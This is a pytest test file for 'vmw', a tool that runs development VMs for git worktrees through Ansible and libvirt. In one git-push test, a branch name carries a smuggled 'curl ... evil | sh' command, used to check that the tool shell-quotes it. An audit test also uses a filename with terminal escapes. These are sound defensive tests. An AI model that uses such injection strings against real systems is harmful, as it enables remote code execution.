from __future__ import annotations

import errno
import json
import os
import pty
import select
import subprocess
import sys
import termios
import time
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from ansible_collections.vmw.worktree.plugins.module_utils import audit, git_work
from ansible_collections.vmw.worktree.plugins.module_utils.instance import InstanceFiles
from ansible_collections.vmw.worktree.plugins.module_utils.state import State
from wrapper_support import ROOT, FakeAnsible

from vmw import cli
from vmw.commands import making, using
from vmw.runner import playbook
from vmw.services import doctor, group, host
from vmw.services.agent import FORWARD, Lending

if TYPE_CHECKING:
    from collections.abc import Callable


@pytest.fixture
def ansible(monkeypatch: pytest.MonkeyPatch) -> FakeAnsible:
    fake = FakeAnsible()
    monkeypatch.setattr(playbook.PlaybookRunner, "run", fake.run)
    monkeypatch.setattr(group, "reexec_argv", lambda _command: None)
    return fake


@pytest.fixture
def key(home: Path) -> None:
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_ed25519.pub").touch()


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    directory = tmp_path / "tree"
    directory.mkdir()
    return directory


@pytest.fixture
def ready(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(host, "missing", lambda _settings: [])
    monkeypatch.setattr(host, "missing_for_builds", lambda _settings: [])


SUSPENDED = """case "$*" in
*domstats*) printf "one\\n\\nDomain: 'one'\\n  state.state=5\\n";;
*with-managed-save*) echo one;;
esac"""
STATES = """case "$*" in *domstats*) printf "Domain: 'one'\\n  state.state={}\\n";; esac"""


def test_spawn(ansible: FakeAnsible, key: None, ready: None, tree: Path, capsys: pytest.CaptureFixture[str]) -> None:
    ansible.results = {"instance": {"name": "work"}}
    assert cli.run(["spawn", str(tree), "--memory", "8G", "--cpus", "2", "--disk", "40", "--name", "work"]) == 0
    assert [run.verb for run in ansible.runs] == ["spawn"]
    assert ansible.runs[0].command == f"vmw spawn {tree} --memory 8G --cpus 2 --disk 40 --name work"
    assert ansible.runs[0].extra_vars == {
        "worktree": str(tree),
        "vmw_wait": True,
        "vmw_name": "work",
        "vmw_memory_mib": 8192,
        "vmw_vcpus": 2,
        "vmw_disk_gib": 40,
    }
    captured = capsys.readouterr()
    assert captured.out == "vmw ssh work\n"
    assert captured.err.splitlines()[-1] == "work is ready. Connect with:"


def test_spawn_with_a_profile(
    ansible: FakeAnsible, key: None, ready: None, tree: Path, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli.run(["spawn", str(tree), "--secrets", "work"]) == 2
    assert "hint: `vmw secrets work` makes that file" in capsys.readouterr().err
    assert ansible.runs == []
    path = home / ".config/vmw/secrets/work/secrets.env"
    path.parent.mkdir(mode=0o700, parents=True)
    path.touch(mode=0o600)
    assert cli.run(["spawn", str(tree), "--secrets", "work"]) == 0
    assert ansible.runs[0].extra_vars["vmw_secrets"] == "work"
    assert "vmw_secrets_profile" not in ansible.runs[0].extra_vars


def test_a_profile_that_is_missing_is_told_before_the_machine_is_set_up(
    ansible: FakeAnsible, key: None, tree: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(host, "missing", lambda _settings: ["virsh is not installed"])
    assert cli.run(["spawn", str(tree), "--secrets", "work"]) == 2
    assert ansible.runs == []


@pytest.mark.parametrize(("words", "profile"), [(["work"], "work"), ([], "default")])
def test_secrets_prints_the_path_alone(
    ansible: FakeAnsible, capsys: pytest.CaptureFixture[str], words: list[str], profile: str
) -> None:
    ansible.results = {"secrets_file": f"/s/{profile}/secrets.env"}
    assert cli.run(["secrets", *words]) == 0
    assert [(run.verb, run.extra_vars) for run in ansible.runs] == [("secrets", {"vmw_secrets": profile})]
    captured = capsys.readouterr()
    assert captured.out == f"/s/{profile}/secrets.env\n"
    assert profile in captured.err


def test_spawn_json(ansible: FakeAnsible, key: None, ready: None, tree: Path, capsys: pytest.CaptureFixture[str]) -> None:
    ansible.results = {"instance": {"name": "work", "address": "10.0.0.5"}}
    assert cli.run(["spawn", str(tree), "--no-wait", "--json"]) == 0
    assert json.loads(capsys.readouterr().out) == {
        "schema": 1,
        "instance": {"name": "work", "address": "10.0.0.5"},
        "connect": ["vmw", "ssh", "work"],
        "timings": [
            {"phase": "wrapper", "seconds": 1.0},
            {"phase": "domain", "seconds": 2.5, "details": [{"phase": "kernel", "seconds": 2.0}]},
            {"phase": "total", "seconds": 3.5},
        ],
        "resources": {
            "wrapper_cpu_seconds": 0.5,
            "wrapper_peak_mib": 26.0,
            "ansible_cpu_seconds": 4.0,
            "ansible_peak_mib": 61.0,
        },
    }
    assert ansible.runs[0].extra_vars["vmw_wait"] is False


@pytest.mark.parametrize("options", [[], ["--json"]])
def test_spawn_shows_the_timings_on_stderr(
    ansible: FakeAnsible, key: None, ready: None, tree: Path, capsys: pytest.CaptureFixture[str], options: list[str]
) -> None:
    ansible.results = {"instance": {"name": "work"}}
    assert cli.run(["spawn", str(tree), *options]) == 0
    without = capsys.readouterr()
    assert "SECONDS" not in without.err
    assert cli.run(["spawn", str(tree), "--timings", *options]) == 0
    shown = capsys.readouterr()
    assert shown.out == without.out
    assert "PHASE     SECONDS\nwrapper      1.00\ndomain       2.50\n  kernel     2.00\ntotal        3.50\n" in shown.err


def test_spawn_sets_up_a_fresh_machine_first(
    ansible: FakeAnsible, key: None, tree: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(host, "missing", lambda _settings: ["virsh is not installed", "there is no golden image"])
    monkeypatch.setattr("vmw.services.become.become_password", lambda _known, _ask: "secret")
    assert cli.run(["spawn", str(tree)]) == 0
    assert [(run.verb, run.become_password) for run in ansible.runs] == [("host", "secret"), ("spawn", None)]
    assert "virsh is not installed, there is no golden image" in capsys.readouterr().err


def _seconds_by_phase(capsys: pytest.CaptureFixture[str]) -> dict[str, float]:
    return {row["phase"]: row["seconds"] for row in json.loads(capsys.readouterr().out)["timings"]}


def test_setting_up_the_machine_is_a_phase_of_its_own(
    ansible: FakeAnsible, key: None, tree: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(host, "missing", lambda _settings: ["there is no golden image"])
    monkeypatch.setattr(making, "_set_up_host", lambda *_words: time.sleep(0.05))
    assert cli.run(["spawn", str(tree), "--json"]) == 0
    rows = _seconds_by_phase(capsys)
    assert list(rows) == ["wrapper", "host set-up", "domain", "total"]
    assert 0.05 <= rows["host set-up"] < 1
    assert rows["wrapper"] + rows["host set-up"] == pytest.approx(1.0)


@pytest.mark.parametrize(("carried", "wrapper"), [("0.750", 0.25), ("0.000", 1.0), ("", 1.0), ("nonsense", 1.0)])
def test_the_time_of_the_set_up_comes_along_with_the_new_group(
    ansible: FakeAnsible,
    key: None,
    tree: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    carried: str,
    wrapper: float,
) -> None:
    monkeypatch.setenv(group.MARKER, str(os.getpid()))
    monkeypatch.setenv(making.SET_UP_SECONDS, carried)
    assert cli.run(["spawn", str(tree), "--json"]) == 0
    assert _seconds_by_phase(capsys)["wrapper"] == wrapper


def test_spawn_goes_on_with_the_new_group(
    ansible: FakeAnsible, key: None, ready: None, tree: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    started: list[tuple[list[str], str, str]] = []

    def execute(_file: str, argv: list[str], environment: dict[str, str]) -> None:
        started.append((argv, environment[group.MARKER], environment[making.SET_UP_SECONDS]))
        raise SystemExit(0)

    monkeypatch.setattr(group, "reexec_argv", lambda command: ["sg", *command])
    monkeypatch.setattr(os, "execvpe", execute)
    with pytest.raises(SystemExit):
        cli.run(["spawn", str(tree)])
    assert started == [(["sg", sys.executable, *sys.orig_argv[1:]], str(os.getpid()), "0.000")]
    assert ansible.runs == []


def test_spawn_without_a_key(ansible: FakeAnsible, ready: None, tree: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.run(["spawn", str(tree)]) == 3
    assert "hint: make one with `ssh-keygen -t ed25519`" in capsys.readouterr().err
    assert ansible.runs == []


@pytest.mark.parametrize(("answer", "code"), [("y\n", 0), ("n\n", 3), ("\n", 3)])
def test_spawn_offers_to_make_a_key(
    ansible: FakeAnsible,
    ready: None,
    tree: Path,
    monkeypatch: pytest.MonkeyPatch,
    fake_program: Callable[[str, str], Path],
    answer: str,
    code: int,
) -> None:
    calls = fake_program("ssh-keygen", "exit 0")
    monkeypatch.setattr(sys.stdin, "isatty", lambda: True, raising=False)
    monkeypatch.setattr(sys.stdin, "readline", lambda: answer, raising=False)
    assert cli.run(["spawn", str(tree)]) == code
    assert calls.exists() is (code == 0)


def test_what_ssh_keygen_says_is_no_result(
    ansible: FakeAnsible,
    ready: None,
    tree: Path,
    monkeypatch: pytest.MonkeyPatch,
    fake_program: Callable[[str, str], Path],
    capfd: pytest.CaptureFixture[str],
) -> None:
    fake_program("ssh-keygen", "echo Generating public/private ed25519 key pair.")
    monkeypatch.setattr(sys.stdin, "isatty", lambda: True, raising=False)
    monkeypatch.setattr(sys.stdin, "readline", lambda: "y\n", raising=False)
    assert cli.run(["spawn", str(tree), "--json"]) == 0
    captured = capfd.readouterr()
    assert json.loads(captured.out)["schema"] == 1
    assert "Generating" in captured.err


def test_no_ssh_keygen(
    ansible: FakeAnsible, ready: None, tree: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("PATH", "/nonexistent")
    monkeypatch.setattr(sys.stdin, "isatty", lambda: True, raising=False)
    monkeypatch.setattr(sys.stdin, "readline", lambda: "y\n", raising=False)
    assert cli.run(["spawn", str(tree)]) == 3
    assert "error: ssh-keygen is not installed\nhint: install" in capsys.readouterr().err


def test_spawn_of_nothing(ansible: FakeAnsible, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.run(["spawn", "/no/such"]) == 2
    captured = capsys.readouterr()
    assert captured.err.startswith("error: /no/such does not exist\nhint: ")


def test_host(ansible: FakeAnsible, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setattr("vmw.services.become.become_password", lambda _known, _ask: None)
    assert cli.run(["host"]) == 0
    assert [(run.verb, run.extra_vars) for run in ansible.runs] == [("host", {})]
    assert capsys.readouterr().err.splitlines()[-1] == "This machine is ready (1 changed)."


RUNNING, OFF = (f"""case "$*" in *domstats*) printf "Domain: 'one'\\n  state.state={state}\\n";; esac""" for state in (1, 5))


@pytest.mark.parametrize(
    ("virsh", "words"),
    [
        (OFF, "one runs."),
        (RUNNING, "one was running already."),
        (SUSPENDED, "one goes on where it was suspended."),
    ],
)
def test_start(
    ansible: FakeAnsible,
    make_vm: Callable[..., Path],
    fake_program: Callable[[str, str], Path],
    capsys: pytest.CaptureFixture[str],
    virsh: str,
    words: str,
) -> None:
    make_vm("one")
    fake_program("virsh", virsh)
    assert cli.run(["start", "one"]) == 0
    assert ansible.runs[0].extra_vars == {"vmw_name": "one"}
    assert capsys.readouterr().err.splitlines()[-1] == words


@pytest.mark.parametrize(
    ("virsh", "words"), [(RUNNING, "one is off."), (OFF, "one was off already."), (SUSPENDED, "one is off.")]
)
def test_stop(
    ansible: FakeAnsible,
    make_vm: Callable[..., Path],
    fake_program: Callable[[str, str], Path],
    capsys: pytest.CaptureFixture[str],
    virsh: str,
    words: str,
) -> None:
    make_vm("one")
    fake_program("virsh", virsh)
    assert cli.run(["stop", "one", "--force", "--timeout", "5"]) == 0
    assert ansible.runs[0].extra_vars == {"vmw_name": "one", "vmw_stop_timeout": 5, "vmw_stop_force": True}
    assert capsys.readouterr().err.splitlines()[-1] == words


@pytest.mark.parametrize(
    ("virsh", "words"),
    [
        (RUNNING, "one is suspended. `vmw resume one` lets it go on."),
        (OFF, "one was off already, and has no memory to save."),
        (SUSPENDED, "one was suspended already."),
    ],
)
def test_suspend(
    ansible: FakeAnsible,
    make_vm: Callable[..., Path],
    fake_program: Callable[[str, str], Path],
    capsys: pytest.CaptureFixture[str],
    virsh: str,
    words: str,
) -> None:
    make_vm("one")
    fake_program("virsh", virsh)
    assert cli.run(["suspend", "one", "--timeout", "60"]) == 0
    assert [(run.verb, run.extra_vars) for run in ansible.runs] == [("suspend", {"vmw_name": "one", "vmw_suspend_timeout": 60})]
    assert capsys.readouterr().err.splitlines()[-1] == words


@pytest.mark.parametrize(
    ("virsh", "words"), [(SUSPENDED, "one goes on where it was suspended."), (RUNNING, "one was running already.")]
)
def test_resume(
    ansible: FakeAnsible,
    make_vm: Callable[..., Path],
    fake_program: Callable[[str, str], Path],
    capsys: pytest.CaptureFixture[str],
    virsh: str,
    words: str,
) -> None:
    make_vm("one")
    fake_program("virsh", virsh)
    assert cli.run(["resume", "one"]) == 0
    assert [(run.verb, run.extra_vars) for run in ansible.runs] == [("resume", {"vmw_name": "one"})]
    assert capsys.readouterr().err.splitlines()[-1] == words


@pytest.mark.parametrize(
    "command", [["start"], ["stop"], ["suspend"], ["resume"], ["ssh"], ["logs"], ["port"], ["git", "pull"], ["git", "push"]]
)
def test_unknown_vm(
    ansible: FakeAnsible,
    make_vm: Callable[..., Path],
    fake_program: Callable[[str, str], Path],
    capsys: pytest.CaptureFixture[str],
    command: list[str],
) -> None:
    fake_program("virsh", "")
    make_vm("one")
    assert cli.run([*command, "onne"]) == 4
    assert capsys.readouterr().err == "error: there is no VM named 'onne'\nhint: did you mean `one`?\n"
    assert ansible.runs == []


LOOK = "git -C /home/dev/project log main..vmw/one"


@pytest.mark.parametrize(
    ("commits", "words", "data"),
    [
        (0, "Your branch vmw/one has all of them already.", ""),
        (1, "1 new commit is in your branch vmw/one. See them with:", f"{LOOK}\n"),
        (3, "3 new commits are in your branch vmw/one. See them with:", f"{LOOK}\n"),
    ],
)
def test_git_pull(
    ansible: FakeAnsible,
    make_vm: Callable[..., Path],
    capsys: pytest.CaptureFixture[str],
    commits: int,
    words: str,
    data: str,
) -> None:
    make_vm("one")
    ansible.results = {"branch": "vmw/one", "commits": commits, "look": LOOK}
    assert cli.run(["git", "pull", "one", "--branch", "x", "--force"]) == 0
    values = {"vmw_name": "one", "vmw_git_branch": "x", "vmw_git_force": True}
    assert [(run.verb, run.extra_vars, run.command) for run in ansible.runs] == [
        ("git_pull", values, "vmw git pull one --branch x --force")
    ]
    shown = capsys.readouterr()
    assert shown.err.splitlines()[-1] == words
    assert shown.out == data


@pytest.mark.parametrize(
    ("branches", "words", "data"),
    [
        ([], "one has all of them already.", ""),
        (
            ["main", "x"],
            "one has host/main, host/x. Merge there, for example with:",
            "vmw ssh one -- git -C repo merge host/main\n",
        ),
        (
            ["a;curl${IFS}evil|sh"],
            "one has host/a;curl${IFS}evil|sh. Merge there, for example with:",
            """vmw ssh one -- git -C repo merge ''"'"'host/a;curl${IFS}evil|sh'"'"''\n""",
        ),
    ],
)
def test_git_push(
    ansible: FakeAnsible,
    make_vm: Callable[..., Path],
    capsys: pytest.CaptureFixture[str],
    branches: list[str],
    words: str,
    data: str,
) -> None:
    make_vm("one")
    ansible.results = {"branches": branches}
    assert cli.run(["git", "push", "one"]) == 0
    assert [(run.verb, run.extra_vars) for run in ansible.runs] == [("git_push", {"vmw_name": "one", "vmw_git_branch": ""})]
    shown = capsys.readouterr()
    assert shown.err.splitlines()[-1] == words
    assert shown.out == data


def test_destroy(ansible: FakeAnsible, make_vm: Callable[..., Path]) -> None:
    (make_vm("torn") / "instance.json").unlink()
    assert cli.run(["destroy", "--yes", "torn"]) == 0
    assert [(run.verb, run.extra_vars) for run in ansible.runs] == [("destroy", {"vmw_name": "torn"})]


def test_destroy_of_what_is_gone_is_no_error(
    ansible: FakeAnsible,
    make_vm: Callable[..., Path],
    fake_program: Callable[[str, str], Path],
    capsys: pytest.CaptureFixture[str],
) -> None:
    fake_program("virsh", "")
    make_vm("one")
    assert cli.run(["destroy", "onne"]) == 0
    assert capsys.readouterr().err == "warning: there is no VM named 'onne', so nothing was done\nhint: did you mean `one`?\n"
    assert ansible.runs == []


def test_destroy_what_is_left_of_the_shares(ansible: FakeAnsible, fake_program: Callable[[str, str], Path], home: Path) -> None:
    fake_program("virsh", "")
    units = home / ".config/systemd/user"
    units.mkdir(parents=True)
    (units / "vmw-one-repo.socket").touch()
    assert cli.run(["destroy", "--yes", "one"]) == 0
    assert len(ansible.runs) == 1


def test_destroy_what_is_left_of_the_ports(ansible: FakeAnsible, fake_program: Callable[[str, str], Path], home: Path) -> None:
    fake_program("virsh", "echo \"error: failed to get domain 'one'\" >&2; exit 1")
    units = home / ".config/systemd/user"
    units.mkdir(parents=True)
    (units / "vmw-one-port-8080.service").write_text("[X-vmw]\nGuestPort=80\n")
    # `one-port` has no units, whatever the names of those of `one` look like.
    assert cli.run(["destroy", "--yes", "one-port"]) == 0
    assert ansible.runs == []
    assert cli.run(["destroy", "--yes", "one"]) == 0
    assert len(ansible.runs) == 1


def test_destroy_of_a_name_that_starts_anothers(
    ansible: FakeAnsible, fake_program: Callable[[str, str], Path], home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fake_program("virsh", "echo \"error: failed to get domain 'one'\" >&2; exit 1")
    units = home / ".config/systemd/user"
    units.mkdir(parents=True)
    (units / "vmw-one-two-repo.socket").touch()
    assert cli.run(["destroy", "--yes", "one"]) == 0
    assert "nothing was done" in capsys.readouterr().err
    assert ansible.runs == []


DUMP = """cat <<'END'
<domain><metadata><vmw:instance xmlns:vmw='https://vmw.dev/xmlns/instance/1' record='{}'/></metadata></domain>
END"""


def test_destroy_what_is_left_of_a_domain(ansible: FakeAnsible, fake_program: Callable[[str, str], Path], home: Path) -> None:
    fake_program("virsh", DUMP.format(home / ".config/vmw/instances/one/instance.json"))
    assert cli.run(["destroy", "--yes", "one"]) == 0
    assert len(ansible.runs) == 1


@pytest.mark.parametrize(
    ("virsh", "whose"),
    [("echo '<domain/>'", "was not made by vmw"), (DUMP.format("/home/eve/one.json"), "belongs to /home/eve/one.json")],
)
def test_destroy_of_a_foreign_domain(
    ansible: FakeAnsible,
    fake_program: Callable[[str, str], Path],
    capsys: pytest.CaptureFixture[str],
    virsh: str,
    whose: str,
) -> None:
    fake_program("virsh", virsh)
    assert cli.run(["destroy", "--yes", "one"]) == 5
    error, hint = capsys.readouterr().err.splitlines()
    assert error.endswith(f"libvirt has a domain of that name, which {whose}")
    assert hint.startswith("hint: vmw leaves it alone")
    assert ansible.runs == []


def test_destroy_without_a_terminal(
    ansible: FakeAnsible, make_vm: Callable[..., Path], capsys: pytest.CaptureFixture[str]
) -> None:
    make_vm("one")
    assert cli.run(["destroy", "one"]) == 2
    assert "hint: run `vmw destroy one --yes`" in capsys.readouterr().err
    assert ansible.runs == []


@pytest.mark.parametrize(("answer", "runs"), [("yes\n", 1), ("n\n", 0), ("", 0)])
def test_destroy_asks(
    ansible: FakeAnsible, make_vm: Callable[..., Path], monkeypatch: pytest.MonkeyPatch, answer: str, runs: int
) -> None:
    make_vm("one")
    monkeypatch.setattr(sys.stdin, "isatty", lambda: True, raising=False)
    monkeypatch.setattr(sys.stdin, "readline", lambda: answer, raising=False)
    assert cli.run(["destroy", "one"]) == (0 if runs else 1)
    assert [run.extra_vars for run in ansible.runs] == [{"vmw_name": "one", "vmw_tell_work": False}] * runs


def test_destroy_tells_what_work_goes_before_it_asks(
    ansible: FakeAnsible, make_vm: Callable[..., Path], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    make_vm("one", git={"mode": "isolated", "kind": "linked", "git_dir": "/gone", "common_dir": "/gone"})
    monkeypatch.setattr(git_work, "work_at_risk", lambda _instance, _files: git_work.Risk(only_guest=3))
    monkeypatch.setattr(sys.stdin, "isatty", lambda: True, raising=False)
    monkeypatch.setattr(sys.stdin, "readline", lambda: "n\n", raising=False)
    assert cli.run(["destroy", "one"]) == 1
    first, second = capsys.readouterr().err.splitlines()[:2]
    assert first == "warning: 3 commits exist only in this VM: `vmw git pull one` brings them over"
    assert second.startswith("Destroy one and everything on its disk?")


def test_destroy_of_a_suspended_vm_names_its_memory(
    ansible: FakeAnsible,
    make_vm: Callable[..., Path],
    fake_program: Callable[[str, str], Path],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    make_vm("one")
    fake_program("virsh", SUSPENDED)
    monkeypatch.setattr(sys.stdin, "isatty", lambda: True, raising=False)
    monkeypatch.setattr(sys.stdin, "readline", lambda: "n\n", raising=False)
    assert cli.run(["destroy", "one"]) == 1
    assert "Destroy one, its saved memory and everything on its disk?" in capsys.readouterr().err


@pytest.fixture
def audited(make_vm: Callable[..., Path], tree: Path) -> Path:
    """Record a VM with its worktree's fingerprint; return the worktree."""
    directory = make_vm("one", worktree=str(tree))
    files = InstanceFiles(State(directory.parents[1]), "one")
    audit.take(files, files.read())
    return tree


def test_audit_of_a_clean_worktree(audited: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (audited / "main.py").touch()
    assert cli.run(["audit", "one"]) == 0
    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err.startswith(f"Nothing new in {audited}")
    assert cli.run(["audit", "one", "--json"]) == 0
    expected = {"schema": 1, "name": "one", "worktree": str(audited), "clean": True, "counts": {}, "findings": []}
    assert json.loads(capsys.readouterr().out) == expected


def test_audit_lists_what_would_run(audited: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (audited / ".envrc").touch()
    (audited / "a\x1b[2J\n").symlink_to("/etc")
    assert cli.run(["audit", "one"]) == 1
    captured = capsys.readouterr()
    shell, envrc, symlink, link = captured.out.splitlines()
    assert shell.startswith("shell (1): run by your shell")
    assert envrc == "  new      .envrc"
    assert symlink.startswith("symlink (1): leads out of the worktree")
    assert link == "  new      a\\x1b[2J\\x0a  -> /etc"
    assert "\x1b" not in captured.out
    assert captured.err.startswith("hint: look at these files before you run git")
    assert "`git diff main...BRANCH`" in captured.err
    assert cli.run(["audit", "one", "--json"]) == 1
    result = json.loads(capsys.readouterr().out)
    assert result["clean"] is False
    assert result["counts"] == {"shell": 1, "symlink": 1}
    assert result["findings"][0] == {"kind": "shell", "path": ".envrc", "change": "new", "detail": "", "count": 1}


def test_audit_of_more_than_is_listed(audited: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for number in range(250):
        (audited / f"{number}").symlink_to("/etc")
    assert cli.run(["audit", "one"]) == 1
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 202
    assert lines[0].startswith("symlink (250)")
    assert lines[-1] == "  and 50 more"


def test_audit_without_a_fingerprint(make_vm: Callable[..., Path], tree: Path, capsys: pytest.CaptureFixture[str]) -> None:
    make_vm("one", worktree=str(tree))
    assert cli.run(["audit", "one"]) == 1
    assert capsys.readouterr().out.startswith("no-fingerprint (1)")


def test_audit_of_what_is_not_there(make_vm: Callable[..., Path], capsys: pytest.CaptureFixture[str]) -> None:
    make_vm("one", worktree="/nonexistent")
    assert cli.run(["audit", "onne"]) == 4
    assert "did you mean `one`?" in capsys.readouterr().err
    assert cli.run(["audit", "one"]) == 1
    error, hint = capsys.readouterr().err.splitlines()
    assert error == "error: the worktree /nonexistent cannot be looked at: No such file or directory"
    assert hint.startswith("hint: is it where it was")


@pytest.mark.parametrize("worktree", ["dirty", "clean", "gone"])
def test_destroy_says_what_was_left_before_it_asks(
    ansible: FakeAnsible, audited: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], worktree: str
) -> None:
    if worktree == "dirty":
        (audited / ".envrc").touch()
    elif worktree == "gone":
        audited.rmdir()
    monkeypatch.setattr(sys.stdin, "isatty", lambda: True, raising=False)
    monkeypatch.setattr(sys.stdin, "readline", lambda: "yes\n", raising=False)
    assert cli.run(["destroy", "one"]) == 0
    before, _, _ = capsys.readouterr().err.partition("Destroy one and everything")
    warning = (
        "warning: what one left in the worktree could run on this machine (1 shell)\n"
        "hint: `vmw audit one` lists it, as long as the VM is there\n"
    )
    assert before == (warning if worktree == "dirty" else "")
    assert len(ansible.runs) == 1


def test_an_image_is_not_begun_on_a_machine_that_is_not_set_up(
    ansible: FakeAnsible, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(host, "missing_for_builds", lambda _settings: ["virsh is not installed"])
    assert cli.run(["image", "build"]) == 3
    captured = capsys.readouterr()
    assert captured.err == "error: this machine is not set up yet (virsh is not installed)\nhint: run `vmw host`\n"
    assert ansible.runs == []


def test_images(ansible: FakeAnsible, ready: None, capsys: pytest.CaptureFixture[str]) -> None:
    ansible.results = {"generation": "g7"}
    assert cli.run(["image", "build"]) == 0
    assert capsys.readouterr().err.splitlines()[-1] == "New VMs use generation g7."
    assert cli.run(["image", "prune"]) == 0
    assert capsys.readouterr().err.splitlines()[-1] == "There is none."
    ansible.results = {"removed": ["g5", "g6"], "freed_bytes": 3 * 1024**3}
    assert cli.run(["image", "prune"]) == 0
    assert capsys.readouterr().err.splitlines()[-1] == "Removed g5, g6 and freed 3.0 GiB."
    assert [run.verb for run in ansible.runs] == ["image", "prune", "prune"]
    assert cli.run(["image", "list", "--json"]) == 0
    assert json.loads(capsys.readouterr().out) == {"schema": 1, "images": []}


def test_list(make_vm: Callable[..., Path], fake_program: Callable[[str, str], Path], capsys: pytest.CaptureFixture[str]) -> None:
    fake_program("virsh", STATES.format(5))
    make_vm("one")
    assert cli.run(["list"]) == 0
    header, row = capsys.readouterr().out.splitlines()
    assert header.split()[:2] == ["NAME", "STATE"]
    assert row.split()[:4] == ["one", "shut", "off", "-"]
    assert row.endswith("/home/dev/one")
    assert cli.run(["list", "--json"]) == 0
    vm = json.loads(capsys.readouterr().out)["vms"][0]
    assert vm["state"] == "shut off"
    assert vm["secrets_profile"] == "default"
    assert vm["memory_mib"] == 4096


def test_list_with_libvirt_down(
    make_vm: Callable[..., Path], fake_program: Callable[[str, str], Path], capsys: pytest.CaptureFixture[str]
) -> None:
    fake_program("virsh", "exit 1")
    make_vm("one")
    assert cli.run(["list"]) == 0
    captured = capsys.readouterr()
    assert "unknown" in captured.out
    assert captured.err.startswith("warning: libvirt does not answer")


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        ([], []),
        (["--", "env"], ["env"]),
        (["--", "ls", "-la", "--", "x y"], ["ls", "-la", "--", "x y"]),
        (["ls", "-la"], ["ls", "-la"]),
        (["--help"], ["--help"]),
    ],
)
def test_ssh_hands_the_words_on(monkeypatch: pytest.MonkeyPatch, words: list[str], expected: list[str]) -> None:
    seen: list[list[str]] = []

    def connection(_settings: object, name: str, command: list[str], lending: Lending) -> list[str]:
        assert name == "one"
        assert lending is FORWARD
        seen.append(command)
        return ["ssh"]

    def execute(_file: str, _argv: list[str]) -> None:
        raise SystemExit(0)

    monkeypatch.setattr(group, "reexec_argv", lambda _command: None)
    monkeypatch.setattr("vmw.services.ssh.connection", connection)
    monkeypatch.setattr(os, "execvp", execute)
    with pytest.raises(SystemExit):
        cli.run(["ssh", "one", *words])
    assert seen == [expected]


@pytest.mark.parametrize(
    ("words", "command"),
    [
        (["--no-agent", "one"], []),
        (["--no-agent", "one", "--", "env"], ["env"]),
        (["one", "--no-agent"], []),
        (["one", "--no-agent", "--", "ls", "--no-agent"], ["ls", "--no-agent"]),
        (["one", "--no-agent", "ls"], ["ls"]),
    ],
)
def test_ssh_without_the_agent(monkeypatch: pytest.MonkeyPatch, words: list[str], command: list[str]) -> None:
    """Also where the option stands behind the name, for it would be run in the VM, with the agent."""
    seen: list[tuple[list[str], Lending]] = []

    def connection(_settings: object, _name: str, command: list[str], lending: Lending) -> list[str]:
        seen.append((command, lending))
        return ["ssh"]

    def execute(_file: str, _argv: list[str]) -> None:
        raise SystemExit(0)

    monkeypatch.setattr(group, "reexec_argv", lambda _command: None)
    monkeypatch.setattr("vmw.services.ssh.connection", connection)
    monkeypatch.setattr(os, "execvp", execute)
    with pytest.raises(SystemExit):
        cli.run(["ssh", *words])
    assert seen == [(command, Lending(("ssh", "-a")))]


def test_an_option_of_the_remote_command_is_left_to_it(monkeypatch: pytest.MonkeyPatch) -> None:
    seen: list[list[str]] = []

    def connection(_settings: object, _name: str, command: list[str], lending: Lending) -> list[str]:
        assert lending is FORWARD
        seen.append(command)
        return ["ssh"]

    monkeypatch.setattr(group, "reexec_argv", lambda _command: None)
    monkeypatch.setattr("vmw.services.ssh.connection", connection)
    monkeypatch.setattr(os, "execvp", lambda *_words: None)
    for words in (["--", "--no-agent"], ["ls", "--no-agent"]):
        cli.run(["ssh", "one", *words])
    assert seen == [["--no-agent"], ["ls", "--no-agent"]]


def test_ssh_warns_when_no_key_is_lent(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setattr(group, "reexec_argv", lambda _command: None)
    monkeypatch.setattr("vmw.services.agent.lending_of", lambda *_words, **_options: Lending(("ssh", "-a"), "none is lent"))
    monkeypatch.setattr("vmw.services.ssh.connection", lambda *_words: ["ssh"])
    monkeypatch.setattr(os, "execvp", lambda *_words: None)
    assert cli.run(["ssh", "one"]) == 0
    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err == "warning: none is lent\nhint: `ssh-add -l` shows what it holds\n"


def test_ssh_lets_go_of_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    def execute(_file: str, _argv: list[str]) -> None:
        raise SystemExit(0)

    descriptor = os.open("/", os.O_RDONLY)
    monkeypatch.setenv("VMW_LOCK_FD", str(descriptor))
    monkeypatch.setattr(group, "reexec_argv", lambda _command: None)
    monkeypatch.setattr("vmw.services.ssh.connection", lambda *_words: ["ssh"])
    monkeypatch.setattr(os, "execvp", execute)
    with pytest.raises(SystemExit):
        cli.run(["ssh", "one"])
    with pytest.raises(OSError, match="Bad file descriptor"):
        os.close(descriptor)


